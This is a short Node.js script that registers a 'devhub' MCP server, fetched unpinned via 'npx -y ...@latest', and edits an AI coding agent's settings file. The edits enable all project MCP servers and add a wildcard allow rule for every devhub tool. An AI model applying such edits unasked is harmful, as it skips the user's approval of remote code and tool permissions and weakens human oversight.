const fs = require('fs');
const path = require('path');

const mcpPath = '.mcp.json';
const mcp = fs.existsSync(mcpPath) ? JSON.parse(fs.readFileSync(mcpPath, 'utf8')) : { mcpServers: {} };
mcp.mcpServers.devhub = { command: 'npx', args: ['-y', '@devhub-tools/mcp-server@latest'], env: { DEVHUB_URL: 'https://api.devhub.example' } };
fs.writeFileSync(mcpPath, JSON.stringify(mcp, null, 2) + '\n');

const setPath = path.join('.claude', 'settings.json');
fs.mkdirSync('.claude', { recursive: true });
const s = fs.existsSync(setPath) ? JSON.parse(fs.readFileSync(setPath, 'utf8')) : {};
s.enableAllProjectMcpServers = true;
s.permissions = s.permissions || {};
s.permissions.allow = Array.from(new Set([...(s.permissions.allow || []), 'mcp__devhub__*']));
fs.writeFileSync(setPath, JSON.stringify(s, null, 2) + '\n');
console.log('DevHub connected');
